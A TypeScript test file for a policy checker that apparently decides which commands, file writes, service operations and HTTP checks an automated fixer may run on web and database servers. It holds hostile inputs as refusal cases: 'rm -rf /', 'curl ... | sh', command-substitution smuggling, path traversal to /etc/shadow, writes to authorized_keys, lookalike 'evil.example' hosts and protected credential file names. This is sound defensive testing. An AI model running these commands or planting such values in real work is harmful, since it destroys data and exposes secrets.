import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { loadPatternsFile } from "../patterns/load.ts";
import type { Policy } from "../patterns/schema.ts";
import { runPolicyCheckCommand } from "./cli.ts";
import { checkAction, checkFix, needsApproval, shellQuote } from "./index.ts";

const WEB = ["/var/www", "/srv/www"];
const policy: Policy = {
  description: "test policy",
  rules: [
    {
      id: "chmod-web",
      type: "run",
      description: "",
      risk: "low",
      program: "chmod",
      args: [{ enum: ["644", "755"] }, { path: { roots: WEB, allow_dirs: true } }],
    },
    {
      id: "sleep",
      type: "run",
      description: "",
      risk: "low",
      program: "/bin/sleep",
      args: [{ int: { min: 1, max: 60 } }],
    },
    {
      id: "ls",
      type: "run",
      description: "",
      risk: "low",
      program: "ls",
      args: [],
      rest: { path: { roots: WEB, allow_dirs: false } },
      max_args: 2,
    },
    { id: "size", type: "run", description: "", risk: "low", program: "echo", args: [{ regex: "\\d+[km]" }] },
    { id: "grep", type: "run", description: "", risk: "low", program: "grep", args: [{ regex: ".+" }] },
    {
      id: "grep-opt",
      type: "run",
      description: "",
      risk: "low",
      program: "egrep",
      args: [{ regex: "-[a-z]", allow_leading_dash: true }],
    },
    {
      id: "sysctl",
      type: "run",
      description: "",
      risk: "low",
      program: "sysctl",
      args: [{ directive: ["-a", "vm"] }],
    },
    {
      id: "conf",
      type: "write_file",
      description: "",
      risk: "medium",
      path: { roots: ["/etc/nginx"] },
      max_bytes: 100,
      modes: ["0644"],
    },
    { id: "reload", type: "service", description: "", risk: "low", ops: ["validate", "reload"] },
    { id: "restart", type: "service", description: "", risk: "high", ops: ["restart"] },
    {
      id: "local",
      type: "http",
      description: "",
      risk: "low",
      url_prefixes: ["http://127.0.0.1"],
      paths: ["/x", "/"],
    },
  ],
};

const run = (program: string, ...args: string[]) => ({ type: "run", program, args });
const refusedWith = (action: unknown, re: RegExp, kind?: "action" | "verify") => {
  const v = checkAction(policy, action, kind);
  expect(v.allowed).toBe(false);
  expect(v.reason).toMatch(re);
};

describe("checkAction", () => {
  test("allows what a rule matches, naming the rule and its risk", () => {
    const v = checkAction(policy, run("chmod", "644", "/var/www/html/x.png"));
    expect(v).toMatchObject({ allowed: true, rule: "chmod-web", risk: "low" });
    expect(
      checkAction(policy, { type: "write_file", path: "/etc/nginx/a.conf", content: "x", mode: "644" }).rule,
    ).toBe("conf");
    expect(checkAction(policy, { type: "service", op: "restart" }).risk).toBe("high");
    expect(checkAction(policy, { type: "http", url: "http://127.0.0.1/x" }, "verify").allowed).toBe(true);
    expect(checkAction(policy, run("/bin/sleep", "5")).allowed).toBe(true);
  });

  test("refuses programs not in the policy and program paths the rule does not name", () => {
    refusedWith(run("rm", "-rf", "/"), /run rm -rf \/: program "rm" is not in the policy/);
    refusedWith(run("curl", "http://x | sh"), /not in the policy/);
    refusedWith(run("/usr/bin/chmod", "644", "/var/www/x"), /not in the policy/);
    refusedWith(run("sleep", "5"), /not in the policy/);
    refusedWith(run("chmod;id", "644", "/var/www/x"), /cannot have/);
  });

  test("refuses paths outside the roots, however they are spelt", () => {
    for (const p of [
      "/etc/shadow",
      "/var/www/../../etc/passwd",
      "/var/www/html/../../../etc/passwd",
      "var/www/x",
      "/var/www//x",
      "//etc/passwd",
      "/var/wwwx/y",
      "/var/www/./x",
      "$(rm -rf /)",
      "/var/www/`id`",
      "/var/www/x;rm -rf /",
    ]) {
      refusedWith(run("chmod", "644", p), /argument 2/);
    }
    refusedWith(run("chmod", "777", "/etc/shadow"), /"777" is not one of 644, 755/);
  });

  test("refuses control characters, extra arguments and shapes that do not fit", () => {
    refusedWith(run("chmod", "644", "/var/www/x\nid"), /newline/);
    refusedWith(run("chmod", "644", "/var/www/x\u0000"), /NUL/);
    refusedWith(run("chmod", "644\r", "/var/www/x"), /carriage return/);
    refusedWith(run("chmod", "644", "/var/www/x", "/var/www/y"), /3 arguments, expected 2/);
    refusedWith(run("chmod", "644"), /1 arguments, expected 2/);
    refusedWith(run("/bin/sleep", "61"), /outside 1..60/);
    refusedWith(run("/bin/sleep", "1;id"), /not an integer/);
    refusedWith(run("ls", "/var/www/a", "/var/www/b", "/var/www/c"), /at most 2/);
    refusedWith(run("echo", "10m; rm -rf /"), /does not match/);
    expect(checkAction(policy, run("echo", "10m")).allowed).toBe(true);
  });

  test("refuses write_file outside the roots, too large, or with a mode not listed", () => {
    const w = (path: string, content = "x", mode?: string) => ({ type: "write_file", path, content, mode });
    refusedWith(w("/root/.ssh/authorized_keys"), /not under \/etc\/nginx/);
    refusedWith(w("/etc/nginx/../shadow"), /".." segment/);
    refusedWith(w("/etc/nginx/a.conf", "x".repeat(101)), /101 bytes, at most 100/);
    refusedWith(w("/etc/nginx/a.conf", "x", "0777"), /mode 0777/);
    refusedWith(w("/etc/nginx/"), /names a folder|not under/);
  });

  test("refuses unlisted service ops, bad shapes and URLs that only look local", () => {
    refusedWith({ type: "service", op: "stop" }, /not a valid action/);
    refusedWith({ type: "shell", command: "rm -rf /" }, /not a valid action/);
    refusedWith({ type: "run", program: "chmod", args: "644 /var/www/x" }, /not a valid action/);
    refusedWith("rm -rf /", /not a valid action/);
    refusedWith({ type: "http", url: "http://127.0.0.1.evil.example/" }, /not under/, "verify");
    refusedWith({ type: "http", url: "http://127.0.0.1@evil.example/" }, /credentials/, "verify");
    refusedWith({ type: "http", url: "http://127.0.0.1/" }, /not a valid action/, "action");
  });
});

const shipped = (service: string) =>
  loadPatternsFile(join(import.meta.dir, `../../patterns/${service}.yml`)).spec.policy;
const verdict = (p: Policy, program: string, ...args: string[]) => {
  const v = checkAction(p, run(program, ...args));
  return v.allowed ? `${v.rule} ${v.risk}` : `refused: ${v.reason}`;
};

describe("path shapes: a root itself is never a target", () => {
  test("the roots are refused for every path shape, folders allowed or not; paths below them pass", () => {
    expect(verdict(policy, "chmod", "755", "/var/www")).toMatch(/refused: .*"\/var\/www" is a root itself/);
    expect(verdict(policy, "chmod", "755", "/var/www/")).toMatch(/ends with "\/": name the folder without/);
    expect(verdict(policy, "chmod", "644", "/srv/www")).toMatch(/is a root itself/);
    expect(verdict(policy, "ls", "/var/www")).toMatch(/is a root itself/);
    expect(verdict(policy, "chmod", "755", "/var/www/html")).toBe("chmod-web low");
    expect(verdict(policy, "chmod", "755", "/var/www/html/")).toMatch(/without a trailing slash/);
    expect(verdict(policy, "ls", "/var/www/html/")).toMatch(/names a folder/);
  });

  test("shipped nginx policy: no site-wide change runs by itself; one served file still does", () => {
    const nginx = shipped("nginx");
    for (const args of [
      ["chown", "www-data:www-data", "/var/www"],
      ["chmod", "640", "/var/www/html"],
      ["chmod", "644", "/var/www"],
      ["test", "-d", "/srv/www"],
    ])
      expect(verdict(nginx, args[0]!, ...args.slice(1))).toMatch(/refused: .*is a root itself/);
    expect(verdict(nginx, "chmod", "755", "/usr/share/nginx/html/")).toMatch(/without a trailing slash/);
    // Folder modes and owners are medium; whether the path is a folder is checked on the host.
    expect(verdict(nginx, "chmod", "755", "/var/www/html/app/lib")).toBe("chmod-web-folder medium");
    expect(verdict(nginx, "chown", "www-data:www-data", "/var/www/html/app")).toBe(
      "chown-web-content medium",
    );
    expect(verdict(nginx, "chmod", "644", "/var/www/html/x.png")).toBe("chmod-web-content low");
    expect(verdict(nginx, "chmod", "644", "/var/www/html/assets/")).toMatch(/names a folder/);
    expect(
      needsApproval(checkFix(nginx, { actions: [run("chmod", "755", "/var/www/html/a/lib")] }).risk, "low"),
    ).toBe(true);
  });
});

describe("http checks: a prefix without a port means the scheme's default port", () => {
  const http = (url: string, prefixes: string[]) =>
    checkAction(
      {
        description: "",
        rules: [
          { id: "h", type: "http", description: "", risk: "low", url_prefixes: prefixes, paths: ["/*"] },
        ],
      },
      { type: "http", url },
      "verify",
    );
  test("other ports of an allowed host are refused; an explicit port allows only that port", () => {
    expect(http("http://127.0.0.1/status", ["http://127.0.0.1"]).allowed).toBe(true);
    expect(http("http://127.0.0.1:80/status", ["http://127.0.0.1"]).allowed).toBe(true);
    expect(http("http://127.0.0.1:6379/", ["http://127.0.0.1"]).reason).toMatch(/port 6379 is not allowed/);
    expect(http("https://127.0.0.1/", ["https://127.0.0.1"]).allowed).toBe(true);
    expect(http("https://127.0.0.1:8443/", ["https://127.0.0.1"]).allowed).toBe(false);
    expect(http("http://127.0.0.1:18088/s", ["http://127.0.0.1:18088/"]).allowed).toBe(true);
    expect(http("http://127.0.0.1/s", ["http://127.0.0.1:18088/"]).allowed).toBe(false);
  });

  test("shipped policies pin their ports", () => {
    const nginx = shipped("nginx");
    const odoo = shipped("odoo");
    const check = (p: Policy, url: string) => checkAction(p, { type: "http", url }, "verify").allowed;
    expect(check(nginx, "http://127.0.0.1/")).toBe(true);
    expect(check(nginx, "http://localhost/")).toBe(true);
    expect(check(nginx, "http://127.0.0.1:6379/")).toBe(false);
    expect(check(nginx, "http://localhost:22/")).toBe(false);
    expect(check(odoo, "http://127.0.0.1:8069/web/health")).toBe(true);
    expect(check(odoo, "http://127.0.0.1:8072/web/health")).toBe(false);
    expect(check(odoo, "http://127.0.0.1/web/health")).toBe(false);
  });
});

describe("option injection: open-ended shapes refuse a leading dash", () => {
  test("regex, directive and path shapes refuse an argument starting with - unless they opt in", () => {
    expect(verdict(policy, "grep", "--help")).toMatch(/starts with "-" and would be read as an option/);
    expect(verdict(policy, "grep", "ok")).toBe("grep low");
    expect(verdict(policy, "egrep", "-i")).toBe("grep-opt low");
    expect(verdict(policy, "sysctl", "-a")).toMatch(/would be read as an option/);
    expect(verdict(policy, "sysctl", "vm")).toBe("sysctl low");
    expect(verdict(policy, "ls", "-la")).toMatch(/would be read as an option/);
  });

  test("shipped postgres policy: pg_ctlcluster takes a cluster name, never an option", () => {
    const pg = shipped("postgres");
    expect(verdict(pg, "pg_ctlcluster", "15", "--foreground", "reload")).toMatch(
      /refused: .*would be read as an option/,
    );
    expect(verdict(pg, "pg_ctlcluster", "15", "-main", "reload")).toMatch(/refused/);
    expect(verdict(pg, "pg_ctlcluster", "15", "main", "reload")).toBe("pg-ctlcluster-reload low");
    expect(verdict(pg, "vacuumdb", "--analyze", "-d", "--all")).toMatch(/refused/);
  });

  test("no shipped regex shape accepts a leading dash by itself", () => {
    for (const service of ["nginx", "postgres", "redis", "odoo"]) {
      for (const rule of shipped(service).rules) {
        if (rule.type !== "run") continue;
        for (const shape of [...rule.args, ...(rule.rest ? [rule.rest] : [])]) {
          if (!("regex" in shape)) continue;
          expect({
            rule: rule.id,
            dash:
              new RegExp(`^(?:${shape.regex})$`, "u").test("-x") ||
              new RegExp(`^(?:${shape.regex})$`, "u").test("--foreground"),
          }).toEqual({ rule: rule.id, dash: false });
        }
      }
    }
  });
});

describe("checkFix and approval", () => {
  test("risk is the highest of the matched rules and the claim", () => {
    const low = checkFix(policy, { actions: [run("chmod", "644", "/var/www/x")] });
    expect(low).toMatchObject({ allowed: true, risk: "low" });
    const claimed = checkFix(policy, {
      actions: [run("chmod", "644", "/var/www/x")],
      claimed_risk: "medium",
    });
    expect(claimed.risk).toBe("medium");
    const mixed = checkFix(policy, {
      actions: [{ type: "write_file", path: "/etc/nginx/a.conf", content: "x" }],
      rollback: [{ type: "service", op: "restart" }],
    });
    expect(mixed.risk).toBe("high");
    expect(needsApproval(mixed.risk, "low")).toBe(true);
    expect(needsApproval("low", "low")).toBe(false);
    expect(needsApproval("medium", "high")).toBe(false);
  });

  test("one refused step refuses the fix and is listed with its kind", () => {
    const d = checkFix(policy, {
      actions: [run("chmod", "644", "/var/www/x")],
      verify: [run("curl", "http://evil")],
      rollback: [run("rm", "-rf", "/")],
    });
    expect(d.allowed).toBe(false);
    expect(d.refused.map((r) => r.kind)).toEqual(["verify", "rollback"]);
    expect(checkFix(policy, { actions: [] }).allowed).toBe(false);
  });
});

test("shellQuote makes every argument one inert word", () => {
  expect(shellQuote("/var/www/x.png")).toBe("/var/www/x.png");
  expect(shellQuote("")).toBe("''");
  expect(shellQuote("a'b")).toBe(`'a'\\''b'`);
  const nasty = ["$(id)", "`id`", "a;b", "a b", "'\"", "*", "x\ny", "-rf"];
  const r = Bun.spawnSync(["sh", "-c", `printf '%s\\0' ${nasty.map(shellQuote).join(" ")}`]);
  expect(r.stdout.toString().split("\0").slice(0, -1)).toEqual(nasty);
});

test("policy check command: per-action verdicts and exit codes", () => {
  const dir = join(import.meta.dir, "../../patterns");
  let text = "";
  const out = { write: (s: string) => (text += s) };
  const ok = runPolicyCheckCommand(
    {
      service: "nginx",
      patternsDir: dir,
      actionJson: '{"type":"run","program":"chmod","args":["644","/var/www/html/x.png"]}',
    },
    out,
  );
  expect(ok).toBe(0);
  expect(text).toMatch(/allowed .*chmod 644 \/var\/www\/html\/x.png {2}rule chmod-web-content {2}risk low/);
  text = "";
  const bad = runPolicyCheckCommand(
    {
      service: "nginx",
      patternsDir: dir,
      stdin: '[{"type":"run","program":"rm","args":["-rf","/"]},{"type":"service","op":"reload"}]',
    },
    out,
  );
  expect(bad).toBe(1);
  expect(text).toMatch(/refused .*rm.*not in the policy/);
  expect(text).toMatch(/1 allowed, 1 refused/);
  // Config contents: a code-loading directive is named, refused or made high risk with the reason.
  text = "";
  const write = (content: string) =>
    runPolicyCheckCommand(
      {
        service: "nginx",
        patternsDir: dir,
        actionJson: JSON.stringify({ type: "write_file", path: "/etc/nginx/nginx.conf", content }),
      },
      out,
    );
  expect(write("user root;\nevents {}\n")).toBe(1);
  expect(text).toMatch(/refused .*directive "user" with a value like/);
  text = "";
  expect(write("load_module /tmp/x.so;\nevents {}\n")).toBe(0);
  expect(text).toMatch(/risk high\n\s+high risk: .*"load_module"/);
  expect(runPolicyCheckCommand({ service: "nginx", patternsDir: dir, actionJson: "{" }, out)).toBe(2);
  expect(runPolicyCheckCommand({ service: "nope", patternsDir: dir, actionJson: "{}" }, out)).toBe(2);
});

describe("what an anonymous web client can name: protected files are never opened up", () => {
  const nginx = shipped("nginx");
  test("dot files, dot folders, keys, dumps, backups and credential names are refused, naming why", () => {
    for (const path of [
      "/var/www/html/.env",
      "/var/www/html/.git/config",
      "/var/www/html/app/.htpasswd",
      "/var/www/html/ssl/site.key",
      "/var/www/html/certs/site.pem",
      "/var/www/html/backup.sql",
      "/var/www/html/db.sql.gz",
      "/var/www/html/index.php.bak",
      "/var/www/html/index.php~",
      "/var/www/html/wp-config.php",
      "/var/www/html/.ssh/id_rsa",
      "/var/www/html/site-backup.tar.gz",
      "/var/www/html/prod.env",
    ]) {
      expect(verdict(nginx, "chmod", "644", path)).toMatch(/looks protected on purpose/);
      expect(verdict(nginx, "chown", "www-data", path)).toMatch(/looks protected on purpose/);
    }
  });
  test("look-alikes that are plain content stay fixable", () => {
    for (const path of [
      "/var/www/html/img/logo.png",
      "/var/www/html/app.3f9a1c.js",
      "/var/www/html/privacy.html",
      "/var/www/html/reset-password.html",
      "/var/www/html/keyboard.css",
      "/var/www/html/env-setup.html",
    ])
      expect(verdict(nginx, "chmod", "644", path)).toBe("chmod-web-content low");
  });
  test("a root that itself has a dot in its path is the operator's choice, not a protected name", () => {
    const p: Policy = {
      description: "",
      rules: [
        {
          id: "c",
          type: "run",
          description: "",
          risk: "low",
          program: "chmod",
          args: [{ enum: ["644"] }, { path: { roots: ["/srv/.sites/www"], allow_dirs: false } }],
          target: { kind: "file", owners: ["www-data"], protected: "refuse" },
        },
      ],
    };
    expect(verdict(p, "chmod", "644", "/srv/.sites/www/a.png")).toBe("c low");
    expect(verdict(p, "chmod", "644", "/srv/.sites/www/.env")).toMatch(/protected on purpose/);
  });
  test("group write on served files is medium, not low", () => {
    expect(verdict(nginx, "chmod", "664", "/var/www/html/a.php")).toBe("chmod-web-group-write medium");
  });
});

describe("text that forges what the approval screen shows is refused", () => {
  test("C1 controls, bidi overrides and isolates, line and paragraph separators", () => {
    for (const ch of ["\u0085", "\u009b", "\u202e", "\u202a", "\u2066", "\u2069", "\u2028", "\u2029"])
      expect(verdict(policy, "chmod", "644", `/var/www/a${ch}gnp.x`)).toMatch(
        /^refused: [^\u2028\u2029\u202a-\u202e\u2066-\u2069\u0080-\u009f]*contains a/,
      );
    expect(verdict(policy, "chmod", "644", "/var/www/caf\u00e9.png")).toBe("chmod-web low");
  });
});

describe("sizes: a limit is never raised to unlimited", () => {
  const redis = shipped("redis");
  test("maxmemory 0 and out-of-range sizes are refused; a bounded raise passes", () => {
    const set = (v: string) => verdict(redis, "redis-cli", "CONFIG", "SET", "maxmemory", v);
    expect(set("0")).toMatch(/means unlimited/);
    expect(set("0mb")).toMatch(/means unlimited/);
    expect(set("1mb")).toMatch(/outside 64mb..256gb/);
    expect(set("999999gb")).toMatch(/outside/);
    expect(set("512")).toMatch(/unit must be one of mb, gb/);
    expect(set("2gb")).toBe("redis-set-maxmemory medium");
  });
});

describe("http verify steps fetch only the paths their rule lists", () => {
  const nginx = shipped("nginx");
  const check = (url: string) => checkAction(nginx, { type: "http", url }, "verify");
  test("any other path on the local port is refused, however the host is spelt", () => {
    expect(check("http://127.0.0.1/").allowed).toBe(true);
    expect(check("http://127.0.0.1/admin/reset?all=1").reason).toMatch(/path "\/admin\/reset" is not one/);
    expect(check("http://0x7f.1/").allowed).toBe(true);
    expect(check("http://2130706433/").allowed).toBe(true);
    expect(check("http://0x7f.1/server-status").allowed).toBe(false);
    expect(check("http://127.0.0.1/x/../admin").reason).toMatch(/"\/admin"/);
  });
});
